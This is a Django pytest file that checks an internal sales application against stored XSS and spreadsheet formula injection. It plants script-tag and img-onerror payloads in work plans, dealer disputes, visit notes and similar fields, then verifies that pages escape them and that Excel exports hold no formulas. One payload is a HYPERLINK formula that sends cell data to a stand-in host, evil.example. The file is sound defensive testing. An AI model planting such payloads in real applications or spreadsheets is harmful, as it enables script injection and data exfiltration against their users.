"""Stored XSS and formula injection in R-17's free text (the pattern of tests/security/test_xss.py):
a payload in a work plan's goals, actions and line purpose, a dealer dispute's description, help
note, escalation reason and resolution, a manager's explanation of a variance, a dealer's name,
a branch's region and a visit record's market notes (competitors, price and quality feedback,
demand, new products) — planted through the services — is never in a page raw, and every field
is shown escaped on a page of someone who reads it (the work plan, dealer and target pages and
the department reports). The JSON gives the text verbatim; the Excel files hold no formula (a
dealer called `=HYPERLINK(...)` is text)."""

import datetime
import io
import zipfile
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.test import Client
from django.utils.html import escape

from contracts.factories import approved_account, line, make_product, signed
from dealers import services as dealers
from deptreports.registry import REPORTS
from staff.choices import Role
from staff.factories import UserFactory
from staff.models import Office
from targets.services import explanation_write, target_set
from visits.records import visit_record_create
from workplans import services as plans

SH = ZoneInfo("Asia/Shanghai")
NOW = datetime.datetime(2026, 3, 18, 10, 0, tzinfo=SH)
TODAY = NOW.date()
PLANTED: dict[str, str] = {}  # field -> payload
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'

pytestmark = pytest.mark.django_db


def payload(field: str, limit: int = 200) -> str:
    tag = f"x{len(PLANTED):02d}"
    text = f'"><script>alert("{tag}")</script><img src=x onerror=alert("{tag}")>'
    if len(text) > limit:
        text = f"<script>{tag}</script>"
    PLANTED[field] = text
    return text


@pytest.fixture
def planted(office, salesperson, manager, director):
    PLANTED.clear()
    executive = UserFactory(username="x17-exec", roles=[Role.EXECUTIVE], offices=[office])
    region = payload("region", 100)
    Office.objects.filter(pk=office.pk).update(region=region)
    office.refresh_from_db()
    with time_machine.travel(NOW, tick=False):
        product = make_product(director, now=NOW)
        dealer = approved_account(office, salesperson, name=payload("dealer name"), kind="dealer")
        rival = approved_account(office, salesperson, name=FORMULA, kind="dealer")
        for account in (dealer, rival):
            signed(
                account, salesperson, [line(product, "3", "150.00")], [manager, director], now=NOW
            )
        visit_record_create(
            actor=salesperson, account=dealer, kind="return", date=TODAY,
            competitors=payload("competitors"), price_feedback=f"电机 {payload('price feedback')}",
            quality_feedback=payload("quality feedback"), demand=payload("demand"),
            new_products=payload("new products"), now=NOW,
        )  # fmt: skip
        target_set(year=2026, amount=Decimal("100000.00"), actor=director, now=NOW)
        target_set(year=2026, region=region, amount=Decimal("100000.00"), actor=director, now=NOW)
        target_set(year=2026, office=office, amount=Decimal("100000.00"), actor=director, now=NOW)
        target_set(
            year=2026, office=office, month=3, amount=Decimal("10000.00"), actor=director, now=NOW
        )
        target_set(
            year=2026, office=office, salesperson=salesperson, month=3,
            amount=Decimal("5000.00"), actor=manager, now=NOW,
        )  # fmt: skip
        explanation_write(
            office=office, salesperson=salesperson, year=2026, month=3,
            text=payload("explanation", 5000), actor=manager, now=NOW,
        )  # fmt: skip
        plan = plans.work_plan_create(
            office=office, actor=salesperson, kind="weekly", day=TODAY, now=NOW
        )
        plans.work_plan_update(
            plan=plan, actor=salesperson, goals=payload("plan goals", 5000),
            actions=payload("plan actions", 5000), now=NOW,
        )  # fmt: skip
        plans.work_plan_line_add(
            plan=plan, actor=salesperson, account=None, day=TODAY,
            purpose=payload("plan line purpose", 300), now=NOW,
        )  # fmt: skip
        plans.work_plan_submit(plan=plan, actor=salesperson, now=NOW)
        helped = dealers.dispute_record(
            actor=salesperson, dealer=dealer, description=payload("dispute description", 5000),
            now=NOW,
        )  # fmt: skip
        dealers.dispute_help(dispute=helped, actor=salesperson, note=payload("help note"), now=NOW)
        dealers.dispute_settle(
            dispute=helped, actor=salesperson, resolution=payload("resolution"), now=NOW
        )
        escalated = dealers.dispute_record(
            actor=salesperson, dealer=dealer, other_dealer=rival, description="窜货", now=NOW
        )
        dealers.dispute_escalate(
            dispute=escalated, actor=salesperson, reason=payload("escalation reason"), now=NOW
        )
    people = {"sp": salesperson, "manager": manager, "director": director, "executive": executive}
    return {"people": people, "plan": plan, "dealer": dealer, "office": office}


def _pages(p) -> dict[str, list[str]]:
    office, plan, dealer = p["office"].pk, p["plan"].pk, p["dealer"].pk
    reports = [f"/reports/department/{key}/?office={office}" for key in sorted(REPORTS)]
    explain = f"/targets/explain/?office={office}&year=2026&month=3"
    explain += f"&salesperson={p['people']['sp'].pk}"
    return {
        "sp": ["/work-plans/", f"/work-plans/{plan}/", "/dealers/", f"/dealers/{dealer}/"]
        + reports,
        "manager": [
            f"/work-plans/{plan}/",
            f"/dealers/{dealer}/",
            "/approvals/inbox/",
            f"/targets/actuals/?office={office}&year=2026&month=3",
            explain,
            f"/targets/branch/?office={office}&year=2026",
            "/reports/department/dashboard/",
            *reports,
        ],
        "director": [
            "/targets/year/?year=2026",
            "/targets/actuals/?year=2026&month=3",
            "/reports/department/regional-sales/",
            "/reports/department/dashboard/",
        ],
        "executive": [f"/dealers/{dealer}/", "/reports/department/regional-sales/"],
    }


def test_r17_no_payload_is_rendered_raw_and_each_is_shown_escaped(planted):
    raw: list[str] = []
    escaped: set[str] = set()
    pages = 0
    with time_machine.travel(NOW + datetime.timedelta(minutes=5), tick=False):
        for who, urls in _pages(planted).items():
            client = Client()
            client.force_login(planted["people"][who])
            client.cookies["django_language"] = "zh-hans"
            for url in urls:
                response = client.get(url)
                assert response.status_code == 200, (who, url, response.status_code)
                html = response.content.decode()
                pages += 1
                for field, text in PLANTED.items():
                    if text in html or "<img src=x onerror" in html:
                        raw.append(f"{who} {url}: {field}")
                    if escape(text) in html:
                        escaped.add(field)
    print(f"r17 xss: {pages} pages x {len(PLANTED)} payloads, raw {len(raw)}")
    assert raw == []
    assert set(PLANTED) - escaped == set(), f"never shown: {set(PLANTED) - escaped}"


def strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return []


def test_r17_json_gives_the_text_verbatim(planted):
    """The API and the reports' JSON return what was typed as JSON strings (not HTML)."""
    office = planted["office"].pk
    checks = [
        ("sp", f"/api/v1/work-plans/{planted['plan'].pk}/", "plan goals"),
        ("sp", "/api/v1/dealer-disputes/", "dispute description"),
        ("sp", "/api/v1/dealer-disputes/", "escalation reason"),
        ("manager", "/api/v1/target-explanations/", "explanation"),
    ]
    with time_machine.travel(NOW + datetime.timedelta(minutes=5), tick=False):
        for who, url, field in checks:
            client = Client()
            client.force_login(planted["people"][who])
            response = client.get(url)
            assert response.status_code == 200, url
            assert response["Content-Type"].startswith("application/json"), url
            assert response["X-Content-Type-Options"] == "nosniff"
            assert any(PLANTED[field] in text for text in strings(response.json())), (url, field)
        client = Client()
        client.force_login(planted["people"]["manager"])
        for key in sorted(REPORTS):
            response = client.get(
                f"/reports/department/{key}/", {"office": office, "format": "json"}
            )
            assert response.status_code == 200, key
            # the charts' data: JSON a browser never renders as HTML
            assert response["Content-Type"].startswith("application/json"), key
            assert response["X-Content-Type-Options"] == "nosniff"
            response.json()


def _formulas(content: bytes) -> list[str]:
    """The formula cells of an .xlsx file (an <f> element in a sheet's XML)."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return [
            name
            for name in book.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in book.read(name)
        ]


def test_r17_excel_files_hold_text_never_a_formula(planted):
    office = planted["office"].pk
    with time_machine.travel(NOW + datetime.timedelta(minutes=5), tick=False):
        found = []
        for who in ("manager", "director"):
            client = Client()
            client.force_login(planted["people"][who])
            urls = [f"/reports/department/{key}/?office={office}" for key in sorted(REPORTS)]
            urls += [f"/targets/actuals/?office={office}&year=2026&month=3"]
            for url in urls:
                response = client.get(url + "&format=xlsx")
                assert response.status_code == 200, url
                assert "spreadsheetml" in response["Content-Type"], url
                found += [(who, url, sheet) for sheet in _formulas(response.content)]
            download = client.get("/targets/excel/", {"office": office, "year": 2026})
            assert download.status_code == 200
            found += [(who, "download", s) for s in _formulas(download.content)]
    assert found == []
